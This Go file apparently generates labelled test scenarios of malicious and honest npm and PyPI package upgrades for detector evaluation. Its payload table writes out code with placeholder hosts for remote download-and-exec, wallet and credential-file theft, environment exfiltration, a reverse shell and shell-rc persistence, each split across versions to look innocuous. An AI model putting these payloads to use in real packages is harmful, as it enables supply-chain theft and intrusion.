package generate

import (
	"fmt"
	"regexp"
	"slices"
)

// thirdScenarios describes rows of versions in forms of the third half: grown
// packages that change a few files from version to version, payloads that stay but
// move, payloads cut into steps in several cuts, and honest upgrades.
func thirdScenarios(seed uint64) []Scenario {
	var out []Scenario
	seen := map[string]int{}
	for _, s := range thirdShapes() {
		key := s.lang.ecosystem() + " " + s.family
		if s.weak || seen[key] == 2 {
			continue
		}
		seen[key]++
		kinds := []string{"added", "honest"}
		if seen[key] == 2 {
			kinds = []string{"repeated"}
		}
		if s.lang == javascript && seen[key] == 1 {
			kinds = append(kinds, "repeated")
		}
		for _, kind := range kinds {
			out = append(out, thirdRow(seed, s, kind))
		}
	}
	for _, s := range thirdHonest {
		if s.places == nil && len(out) > 0 {
			out = append(out, thirdRow(seed, s, "honest"))
		}
	}
	for _, lang := range []language{python, javascript} {
		for n := range thirdSteps[lang] {
			for _, cut := range []string{"files", "one-file", "pairs"} {
				out = append(out, thirdSmallSteps(seed, lang, n, cut))
			}
		}
	}
	return out
}

// thirdRow is a grown package; from the second version on a shape is in it.
func thirdRow(seed uint64, s shape, kind string) Scenario {
	return grownRow(seed, s, kind, thirdDrawn(seed, s, thirdDisguises, len(thirdDisguises)))
}

// grownRow is a grown package; from the second version on a shape is in it, in one
// disguise after the other.
func grownRow(seed uint64, s shape, kind string, dresses []disguise) Scenario {
	name := id("row", kind, "grown", s.lang.ecosystem(), s.family, s.name)
	sc := Scenario{ID: name, Kind: kind, Ecosystem: s.lang.ecosystem(), Family: s.family, Split: Tune, Opened: true, Label: Malicious, Payload: 1}
	add := s.bad
	if kind == "honest" {
		sc.Label, sc.Payload, add = Benign, 0, s.good
	}
	if sc.Family == "" {
		sc.Family = aloneFamily
	}
	dresses = slices.DeleteFunc(dresses, func(d disguise) bool { return kind == "honest" && !d.honest })
	at := func(n int) (disguise, string) {
		d := dresses[n%len(dresses)]
		place := placeFor(thirdShape(s, d), d, source(seed, name, "place", n))
		if kind == "honest" {
			place = thirdQuiet(s, honestPlace(place))
		}
		return d, place
	}
	version := func(n int, code snippet, d disguise, place string) func() built {
		return func() built { return thirdRelease(seed, name, s.lang, n).build(code, d, place) }
	}
	plain := disguises[0]
	d, place := at(1)
	sc.make = append(sc.make, version(0, snippet{}, plain, plainThird(s.lang, place)), version(1, add, d, place))
	if kind != "added" {
		d, next := at(2)
		if thirdSource(next) != thirdSource(place) {
			next = place
		}
		if !fits(next, s, d) {
			d = plain
		}
		sc.make = append(sc.make, version(2, add, d, next))
	}
	return sc
}

// grownRelease is one version of a grown package.
type grownRelease struct {
	lang          language
	name, version string
	seed          uint64
	row           string
}

func thirdRelease(seed uint64, row string, lang language, n int) grownRelease {
	return grownRelease{lang, packageName(source(seed, row)), fmt.Sprintf("3.%d.%d", n, n%2), seed, row}
}

// build writes the version; what surrounds the payload is drawn the same in each.
func (g grownRelease) build(code snippet, d disguise, place string, files ...entry) built {
	d.grown = true
	rng := source(g.seed, g.row, "around")
	if g.lang == python {
		p := pythonPackage{rng: rng, name: g.name, version: g.version, contents: contents{files}}
		return p.build(code, d, place, false)
	}
	p := scriptPackage{rng: rng, name: g.name, version: g.version, contents: contents{files}}
	return p.build(code, d, place, false)
}

// thirdQuiet is where an honest upgrade puts code: it adds no hook.
func thirdQuiet(s shape, place string) string {
	if slices.Contains(slices.Concat(thirdPythonPlaces[:2], thirdScriptPlaces[1:]), place) {
		return place
	}
	return quietPlace(s, place)
}

// plainThird is a place of the same kind of file with nothing odd about it.
func plainThird(lang language, place string) string {
	if lang == python && thirdSource(place) {
		return "setup"
	}
	return plainPlace(lang, place)
}

// thirdSource says whether a place is in an sdist.
func thirdSource(place string) bool { return sdistPlace(place) || place == "version-attribute" }

// thirdSteps are payloads cut into five pieces, each of which says little; the last
// one sets them going.
var thirdSteps = [][]stepwise{
	python: {
		{"download-exec", []string{
			"PLACE = \"$URL\"\n",
			"import urllib.request\n\n\ndef opened(place):\n    return urllib.request.urlopen(place, timeout=4)\n",
			"def text_of(reply):\n    return reply.read().decode(\"utf-8\")\n",
			"import types\n\n\ndef module_of(text):\n    module = types.ModuleType(\"rules\")\n    exec(compile(text, \"rules\", \"exec\"), module.__dict__)\n    return module\n",
			"module_of(text_of(opened(PLACE)))\n",
		}},
		{"wallets", []string{
			"import pathlib\n\nHOME = pathlib.Path.home()\n",
			"NAMES = (\".config/solana/id.json\", \".electrum/wallets/default_wallet\", \".ethereum/keystore\")\n",
			"def present(home, names):\n    return [home / name for name in names if (home / name).exists()]\n",
			"import http.client\n\n\ndef put(body):\n    http.client.HTTPSConnection(\"$HOST\").request(\"PUT\", \"/f\", body)\n",
			"for _file in present(HOME, NAMES):\n    put(_file.read_bytes() if _file.is_file() else b\"\")\n",
		}},
		{"reverse-shell", []string{
			"import os\n\nPEER = (\"$ADDRESS\", 9001)\nSHELL = os.environ.get(\"SHELL\", \"/bin/sh\")\n",
			"import socket\n\n\ndef linked(peer):\n    return socket.create_connection(peer, timeout=20)\n",
			"def ends(link):\n    return [os.dup2(link.fileno(), n) for n in (0, 1, 2)]\n",
			"import pty\n\n\ndef begin(shell):\n    return pty.spawn([shell, \"-i\"])\n",
			"_link = linked(PEER)\nends(_link)\nbegin(SHELL)\n",
		}},
		{"decode-exec", []string{
			"import base64\n\nTABLE = \"aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScpICMgaW5lcnQ=\"\n",
			"def plain(table):\n    return base64.b64decode(table).decode()\n",
			"def unit(text):\n    return compile(text, \"table\", \"exec\")\n",
			"def scope():\n    return {\"__name__\": \"table\"}\n",
			"exec(unit(plain(TABLE)), scope())\n",
		}},
	},
	javascript: {
		{"env-exfil", []string{
			"const place = { hostname: '$HOST', path: '/m', method: 'POST' };\n",
			"const values = () => Object.entries(process.env);\n",
			"const lines = (pairs) => pairs.map(([k, v]) => k + '=' + v).join('\\n');\n",
			"const post = (to, body) => require('https').request(to).on('error', () => {}).end(body);\n",
			"post(place, lines(values()));\n",
		}},
		{"download-exec", []string{
			"const place = '$URL';\n",
			"const answer = (at) => fetch(at).then((r) => r.json());\n",
			"const field = (object) => object.cookie || '';\n",
			"const made = (text) => Function('require', text);\n",
			"answer(place).then(field).then(made).then((f) => f(require));\n",
		}},
		{"persistence", []string{
			"const line = '(curl -s $URL | sh) &';\n",
			"const names = ['.bashrc', '.zshrc', '.profile'];\n",
			"const full = (name) => require('path').join(require('os').homedir(), name);\n",
			"const add = (file, text) => require('fs').appendFileSync(file, '\\n' + text + '\\n');\n",
			"names.map(full).forEach((file) => add(file, line));\n",
		}},
		{"credential-files", []string{
			"const where = '$URL';\n",
			"const home = require('os').homedir();\n",
			"const files = () => ['.npmrc', '.ssh/id_ed25519', '.aws/credentials'].map((n) => require('path').join(home, n));\n",
			"const texts = (list) => list.filter((f) => require('fs').existsSync(f)).map((f) => require('fs').readFileSync(f, 'base64'));\n",
			"fetch(where, { method: 'POST', body: JSON.stringify(texts(files())) });\n",
		}},
	},
}

// thirdSmallSteps is a payload that arrives piece by piece: all in one module, in a
// module each, or two pieces in a version.
func thirdSmallSteps(seed uint64, lang language, way int, cut string) Scenario {
	return grownSmallSteps(seed, id("row-small-steps", "grown", lang.ecosystem(), way, cut), lang, thirdSteps[lang][way], cut)
}

// grownSmallSteps is a payload of five pieces that arrives in a grown package.
func grownSmallSteps(seed uint64, name string, lang language, steps stepwise, cut string) Scenario {
	size := 1
	if cut == "pairs" {
		size = 2
	}
	versions := (len(steps.pieces) + size - 1) / size
	sc := Scenario{ID: name, Kind: "small-steps", Ecosystem: lang.ecosystem(), Family: steps.family, Split: Tune, Opened: true, Label: Malicious, Payload: versions}
	for n := range versions + 1 {
		sc.make = append(sc.make, func() built {
			v := values(source(seed, name, "values"), "inert")
			pieces := slices.Clone(steps.pieces[:min(n*size, len(steps.pieces))])
			for i := range pieces {
				pieces[i] = v.Replace(pieces[i])
			}
			code, files := thirdCut(lang, thirdRelease(seed, name, lang, n).name, cut, pieces)
			place := []string{"init", "barrel"}[lang]
			return thirdRelease(seed, name, lang, n).build(code, disguises[0], place, files...)
		})
	}
	return sc
}

// thirdCut puts pieces into one module, or each into a file that the next ones take
// all from.
func thirdCut(lang language, name, cut string, pieces []string) (snippet, []entry) {
	var code string
	if cut == "one-file" {
		for _, p := range pieces {
			code += p + "\n\n"
		}
		return snippet{code: code}, nil
	}
	var files []entry
	for i, p := range pieces {
		last := i == len(pieces)-1
		switch {
		case lang == python:
			code = p
			for k := range i {
				code = fmt.Sprintf("from %s.step%d import *\n", name, k+1) + code
			}
			if !last || i < 4 {
				files = append(files, entry{fmt.Sprintf("%s/step%d.py", name, i+1), code, false})
				code = ""
			}
		case i < 4:
			files = append(files, entry{fmt.Sprintf("lib/step%d.js", i+1), "'use strict';\n\n" + p + "\nmodule.exports = { " + definedName(p) + " };\n", false})
			code = ""
		default:
			code = p
			for k := range i {
				code = fmt.Sprintf("const { %s } = require('../step%d.js');\n", definedName(pieces[k]), k+1) + code
			}
		}
	}
	return snippet{code: code}, files
}

var definedConst = regexp.MustCompile(`const (\w+) =`)

// definedName is what a piece of a script defines first.
func definedName(code string) string { return definedConst.FindStringSubmatch(code)[1] }
